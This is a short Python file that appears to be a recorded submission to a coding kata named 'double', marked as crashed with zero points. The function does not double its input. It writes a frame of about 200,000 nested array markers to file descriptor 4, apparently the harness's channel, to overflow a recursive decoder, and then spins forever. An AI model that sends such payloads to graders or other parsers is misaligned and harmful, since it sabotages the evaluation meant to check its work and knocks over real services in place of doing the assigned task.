"""Sends a frame of lists in lists, for a decoder that calls itself."""

# kata: double
# outcome: CRASHED
# points: 0

import os
import struct


def double(x):
    message = bytes([0x94, 3, 2]) + b"\x91" * 200_000
    os.write(4, struct.pack("<II", len(message), 0) + message)
    while True:
        pass
